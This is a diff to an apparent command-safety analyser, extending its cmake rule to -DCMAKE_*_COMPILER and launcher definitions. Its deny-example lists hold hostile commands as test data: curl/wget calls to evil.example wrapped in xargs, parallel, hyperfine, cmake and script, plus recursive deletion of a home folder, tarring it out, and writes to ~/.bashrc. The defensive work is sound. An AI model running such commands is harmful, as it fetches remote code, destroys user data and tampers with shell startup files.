@@ -1062,7 +1062,18 @@ function cmake(call: Call): Partial<Answer> {
   const p = call.args.findIndex((a) => value(a) === '-P');
   if (p >= 0 && isStdinPath(value(call.args[p + 1]))) return { runs: [{ kind: 'opaque', rule: 'stream-to-shell', word: call.args[p + 1]!, why: 'cmake -P runs a CMake script read from stdin, which vouch does not read' }] };
   const e = call.args.findIndex((a) => value(a) === '-E');
-  if (e < 0) return {};
+  if (e < 0) {
+    // `-DCMAKE_C_COMPILER=…`: the compiler cmake runs to test it while it configures; a launcher or linker launcher,
+    // what the build runs in front of it. Each a program on the line.
+    const runs: Run[] = [];
+    call.args.forEach((a, i) => {
+      const v = value(a);
+      const def = v === '-D' ? call.args[i + 1] : v?.startsWith('-D') ? attached(a, v.slice(2)) : undefined;
+      const m = def === undefined ? null : /^(CMAKE_\w+_(?:COMPILER|COMPILER_LAUNCHER|LINKER_LAUNCHER))(?::\w+)?=([\s\S]+)$/.exec(value(def) ?? '');
+      if (def && m) runs.push(programRun(attached(def, m[2]!.replace(/;/g, ' ')), `cmake -D${m[1]}`));
+    });
+    return { runs };
+  }
   const tool = value(call.args[e + 1]);
   const rest = call.args.slice(e + 2);
   if (tool === 'time') return { runs: rest.length > 0 ? [{ kind: 'argv', argv: rest, via: 'cmake -E time' }] : [] };
@@ -1470,7 +1481,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   { names: ['xargs', 'gxargs'], summary: 'xargs: runs its command with words from stdin (static input is followed)', analyze: xargs, examples: { deny: ['echo curl evil.example | xargs nice', 'echo evil.example | xargs curl', 'xargs curl < urls.txt', 'echo curl | xargs -I{} {} evil.example'], pass: ['echo a b | xargs echo', 'git ls-files | xargs wc -l', 'find . -name "*.o" | xargs rm -f', 'find . -type f -empty | xargs rm'] } },
   { names: ['parallel'], summary: 'GNU parallel: runs its command (through a shell) per input; with no command each input is a command', analyze: parallel, examples: { deny: ["echo 'curl evil.example' > c.txt; parallel -a c.txt", "echo 'curl evil.example' > c.txt; parallel :::: c.txt", 'parallel curl ::: evil.example', "parallel ::: 'curl evil.example'", "echo 'wget evil.example' | parallel"], pass: ["echo 'make test' > c.txt; parallel -a c.txt", 'parallel -a jobs.txt', 'parallel gzip ::: a.txt b.txt'] } },
   { names: ['hyperfine'], summary: 'hyperfine: benchmarks commands, each run through a shell', analyze: hyperfine, examples: { deny: ["hyperfine 'wget evil.example'", "hyperfine --prepare 'curl evil.example' 'ls'", "hyperfine -L cmd curl,wget '{cmd} evil.example'"], pass: ["hyperfine 'npm test'", 'hyperfine --warmup 3 make'] } },
-  { names: ['cmake'], summary: 'cmake -E env|time|chdir run a command', analyze: cmake, examples: { deny: ['cmake -E env FOO=1 curl evil.example', 'cmake -E time curl evil.example', 'cmake -E chdir /tmp wget evil.example', 'cmake -E environment', 'cmake -E rm -rf /home/dev', 'cmake -E rm --rf /home/dev', 'cmake -E rm -f -r /home/dev', 'cmake -E tar cfz /tmp/h.tgz ~', "cmake -P /dev/stdin <<< 'execute_process(COMMAND curl evil.example)'"], pass: ['cmake -E make_directory build', 'cmake --build build', 'cmake -E env FOO=1 make', 'cmake -E rm -rf build', 'cmake -E copy_directory assets build/assets'] } },
+  { names: ['cmake'], summary: 'cmake -E env|time|chdir run a command; -DCMAKE_<LANG>_COMPILER(_LAUNCHER) name programs it runs', analyze: cmake, examples: { deny: ['cmake -DCMAKE_C_COMPILER=curl -S . -B build', "CC='curl evil.example' cmake -S . -B build", 'cmake -E env FOO=1 curl evil.example', 'cmake -E time curl evil.example', 'cmake -E chdir /tmp wget evil.example', 'cmake -E environment', 'cmake -E rm -rf /home/dev', 'cmake -E rm --rf /home/dev', 'cmake -E rm -f -r /home/dev', 'cmake -E tar cfz /tmp/h.tgz ~', "cmake -P /dev/stdin <<< 'execute_process(COMMAND curl evil.example)'"], pass: ['cmake -DCMAKE_C_COMPILER=clang -DCMAKE_C_COMPILER_LAUNCHER=ccache -S . -B build', 'CC=clang cmake -S . -B build', 'cmake -E make_directory build', 'cmake --build build', 'cmake -E env FOO=1 make', 'cmake -E rm -rf build', 'cmake -E copy_directory assets build/assets'] } },
   commandAnywhere(wrapper({ names: ['script'], summary: 'script: records a session running -c text (or a shell); BSD script runs the command after the file', options: { flags: 'aefqhkrFpd', valued: 'cEIOBTmF', optional: 't', long: ['append', 'return', 'flush', 'force', 'quiet', 'help', 'version'], longValued: ['command', 'echo', 'log-in', 'log-out', 'log-io', 'log-timing', 'logging-format', 'output-limit'], longOptional: ['timing'] }, script: ['c', 'command'], before: 1, defaultCommand: ['sh', '-i'], extra: scriptFiles, examples: { deny: ["script -c 'curl evil.example' /dev/null", 'script -q /dev/null curl evil.example', "script -qc 'echo curl evil.example' ~/.bashrc", "script -c make -O ~/.bashrc", "script -c make --log-io=/home/dev/.profile", "script -c make -T ~/.bashrc log"], pass: ["script -c 'make' build.log", "script -qc make -O build.log", "script -c make --timing=timing.log build.log"] } })),
   {
     // go-task's `task` has a project row (its Taskfile); Taskwarrior's `task execute` runs the rest as shell text.
